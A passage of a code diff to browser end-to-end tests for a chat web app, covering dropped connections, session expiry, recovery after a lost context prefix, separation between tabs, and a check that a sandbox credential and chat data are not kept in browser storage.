+      await using cable = await Cable.to(server.origin);
       await using chat = await ChatPage.open(browser, cable);
       await chat.create(PERSONA);
-      await chat.send('What?');
+      await chat.ask('When will my order arrive?');
+      await chat.begin('What?');
       await chat.answers.getByText('first piece').waitFor();
       cable.cut();
-      end();
-      await chat.answers.getByText('first piece, second piece').waitFor();
-      expect(await chat.alerts.count()).toBe(0);
+      await chat.alerts.getByText('The connection to the server was lost.').waitFor();
+      expect(await chat.answers.last().textContent()).toContain('first piece');
+      expect(await chat.alerts.count()).toBe(1);
+      expect(await chat.button('Try again').count()).toBe(1);
     },
     SLOW,
   );
 
   it(
-    'counts down to the expiry, and starts a session again with the same persona',
+    'counts down to the expiry of a session, and starts another with the same persona',
     async () => {
       await using server = await TestServer.start();
       await using chat = await ChatPage.open(browser, server, { now: NOON });
       await chat.create(PERSONA);
+      await chat.ask('What?');
       const timer = chat.page.locator('.facts').getByRole('timer');
-      await timer.getByText('expires in 01:00:00').waitFor();
+      expect(await timer.textContent()).toBe('expires in 01:00:00');
       await chat.page.clock.setFixedTime(NOON + 3_590_000);
       await timer.getByText('expires in 00:00:10').waitFor();
-      server.clock = () => NOON + 3_600_000;
       await chat.page.clock.setFixedTime(NOON + 3_600_000);
-      await chat.alerts.getByText('This context has expired.').waitFor();
+      server.clock = () => NOON + 3_600_000;
+      await chat.alerts.getByText('This session no longer exists').waitFor();
       expect(await chat.alerts.count()).toBe(1);
       expect(await chat.question.count()).toBe(0);
       expect(await chat.violations()).toEqual([]);
       await chat.button('Start again with the same persona').click();
       await chat.question.waitFor();
       expect(await chat.questions.count()).toBe(0);
-      await timer.getByText('expires in 01:00:00').waitFor();
-    },
-    SLOW,
-  );
-
-  it(
-    'goes on with the conversation on a new prefix where the old one is lost',
-    async () => {
-      await using gateway = await StandIn.start();
-      let isLost = false;
-      const asked: string[] = [];
-      await using server = await startBefore(
-        gateway,
-        (response, _, { body }) => {
-          const { context_id, messages } = JSON.parse(body);
-          if (isLost && context_id === 'ctx-1')
-            return json(response, 404, {
-              error: { code: 'ContextNotFound', message: 'The context is not found.' },
-            });
-          asked.push(messages.map(({ content }: { content: string }) => content).join());
-          beginStream(response).end(STREAM);
-        },
-        // Otherwise the server creates it again by itself.
-        { STORE_MESSAGES: 'off' },
-      );
-      await using chat = await ChatPage.open(browser, server);
-      await chat.create(PERSONA, 'Common prefix');
-      await chat.ask('one');
-      isLost = true;
-      await chat.send('two');
-      await chat.alerts.getByText('This context has expired.').waitFor();
+      expect(await chat.page.getByRole('heading', { name: PERSONA }).count()).toBe(1);
+      await chat.ask('And now?');
+      expect(await chat.conversations.count()).toBe(2);
+      // After a reload, the server says so.
+      await chat.conversations.getByRole('button', { name: /^What/ }).click();
+      await chat.alerts.waitFor();
+      await chat.page.reload();
+      await chat.alerts.getByText('This session no longer exists').waitFor();
       expect(await chat.alerts.count()).toBe(1);
-      await chat.button('Start again with the same persona').click();
-      await chat.bars.nth(1).waitFor();
-      expect(asked).toEqual(['one', 'one,Hi 您好😀,two']);
-      expect(await chat.questions.allTextContents()).toEqual(['one', 'two']);
       expect(chat.problems).toEqual([]);
     },
     SLOW,
   );
 
   it(
-    'asks for a credential where the server requires one, and keeps it and all else in memory only',
+    'goes on with the conversation on a new prefix where the old one is gone',
+    async () => {
+      await using gateway = await StandIn.start();
+      await using server = await startBefore(gateway, (response) => beginStream(response).end(STREAM));
+      await using chat = await ChatPage.open(browser, server);
+      await chat.create(PERSONA, 'Common prefix');
+      await chat.ask('one');
+      await server.query('mutation { forgetContext(id: "ctx-1") }');
+      await chat.begin('two');
+      await chat.alerts.getByText('This prefix no longer exists').waitFor();
+      expect(await chat.alerts.count()).toBe(1);
+      await chat.button('Start again with the same persona').click();
+      await chat.bars.nth(1).waitFor();
+      expect(await chat.questions.allTextContents()).toEqual(['one', 'two']);
+      expect(said(gateway)).toEqual(['one', 'Hi 您好😀', 'two']);
+      expect(JSON.parse(gateway.seen.at(-1)?.body ?? '').context_id).toBe('ctx-2');
+      expect(await chat.focus).toBe('question');
+      expect(chat.problems).toEqual([]);
+    },
+    SLOW,
+  );
+
+  it(
+    'keeps two tabs apart',
+    async () => {
+      await using server = await start();
+      await using chat = await ChatPage.open(browser, server);
+      await using other = await chat.openTab(server);
+      for (const [tab, question] of [
+        [chat, 'here'],
+        [other, 'there'],
+      ] as const) {
+        await tab.prompts.first().click();
+        await tab.begin(question);
+      }
+      for (const [tab, question] of [
+        [chat, 'here'],
+        [other, 'there'],
+      ] as const) {
+        await tab.bars.first().waitFor();
+        await tab.page.reload();
+        await tab.bars.first().waitFor();
+        expect(await tab.questions.allTextContents()).toEqual([question]);
+        expect(await tab.conversations.count()).toBe(1);
+      }
+    },
+    SLOW,
+  );
+
+  it(
+    'asks once for a credential where the server requires one, and keeps nothing with it',
     async () => {
       await using server = await start({ GATEWAY_URL: 'sandbox:', AUTH_MODE: 'passthrough' });
       await using chat = await ChatPage.open(browser, server);
-      await chat.page.getByText('This server needs a credential.').first().waitFor();
-      await chat.page.locator('#main').getByRole('button', { name: 'Access' }).first().click();
-      expect(await chat.focusedId()).toBe('credential');
-      await chat.page.getByLabel('Credential').fill('sk-sandbox');
-      await chat.page.getByLabel('Credential').press('Enter');
-      await chat.alerts.first().waitFor({ state: 'detached' });
+      await chat.alerts.getByText('This server needs a valid credential.').waitFor();
+      await chat.page.waitForLoadState('networkidle');
+      expect(await chat.alerts.count()).toBe(1);
+      await chat.button('Enter a credential').click();
+      await chat.page.locator('#credential:focus').fill('sk-sandbox');
+      await chat.page.keyboard.press('Enter');
+      await chat.alerts.waitFor({ state: 'detached' });
       await chat.create(PERSONA);
-      await chat.ask('What?');
+      await chat.ask('one');
+      await chat.question.fill('a draft');
+      await chat.button('New chat', 'nav').click();
+      await chat.conversations.getByRole('button', { name: /^one/ }).click();
+      await chat.questions.getByText('one').waitFor();
+      expect(await chat.question.inputValue()).toBe('a draft');
       expect(await chat.alerts.count()).toBe(0);
+      await chat.page.getByRole('combobox', { name: 'Language, 语言' }).selectOption('中文');
       expect(await chat.page.context().storageState()).toEqual({ cookies: [], origins: [] });
-      const kept = await chat.page.evaluate(() => JSON.stringify({ ...sessionStorage }));
-      expect(kept).not.toMatch(/What|lamps|sk-sandbox/);
+      expect(await chat.page.evaluate(() => sessionStorage.length)).toBe(0);
     },
     SLOW,
   );
